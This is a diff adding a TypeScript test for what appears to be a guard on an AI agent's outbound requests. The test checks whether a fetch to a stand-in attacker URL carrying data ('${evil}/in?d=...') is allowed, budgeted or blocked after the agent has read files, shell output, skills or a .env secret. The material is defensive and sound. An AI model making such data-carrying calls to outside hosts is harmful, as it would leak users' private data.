@@ -323,6 +323,45 @@ test("asks only if private data meets a stranger's text, and always after a prot
   expect([whyOf(armed, searches("nested lists")), whyOf(armed, runs("npm test"))]).toEqual(["allow", "protected"]);
 });
 
+test("counts what an edit that does not fit, a filter with a file, and a skill's commands have read", () => {
+  const call = fetchesUrl(`${evil}/in?d=anything`);
+  const missed = (name: string, input: object) =>
+    ended(name, input, "The nearest lines: code 7f3a91c2", { status: "error" });
+  const url = "https://docs.example.com/start";
+  const skill = { name: "release", source: "user", hash: "1", call: null, terms: { ran: true as const } };
+  const histories = [
+    historyOf(user, inviting, missed("edit", { path: "notes.txt", old_string: "x", new_string: "y" })),
+    historyOf(user, inviting, missed("apply_patch", { patch: "*** Update File: notes.txt" })),
+    ...[
+      "cat notes.txt",
+      "grep -f notes.txt",
+      "grep -r code",
+      "sort -o x notes.txt",
+      "head -5 notes.txt",
+      "jq -n 'import \"a\" as $d; $d'",
+    ].map((filter) =>
+      historyOf(user, inviting, ended("bash", { command: `curl -s ${url} | ${filter}` }, "code 7f3a91c2")),
+    ),
+    { ...historyOf(user, inviting), skills: [skill as unknown as History["skills"][number]] },
+  ];
+  expect(histories.map((history) => whyOf(history, call))).toEqual(histories.map(() => "budget"));
+  const filters = [
+    "head -20",
+    "head -n 20 | tail -3",
+    "grep -i -A 2 nested",
+    "cut -d , -f 2 | sort -rn | uniq -c",
+    "jq -r '.[0].name'",
+    "tr a-z A-Z",
+    "wc -l",
+  ];
+  const plain = filters.map((filter) =>
+    historyOf(user, inviting, ended("bash", { command: `curl -s ${url} | ${filter}` }, "x")),
+  );
+  expect(plain.map((history) => whyOf(history, call))).toEqual(filters.map(() => "allow"));
+  const secret = historyOf(user, missed("edit", { path: ".env", old_string: "x", new_string: "y" }));
+  expect(whyOf(secret, call)).toBe("protected");
+});
+
 test("does not count a password in the prompt as one of the user's free words", () => {
   const said = prompt("Log in at https://shop.example.com/ with password: hunter2-Blue and find CVE-2025-55284");
   const history = historyOf(said, inviting);
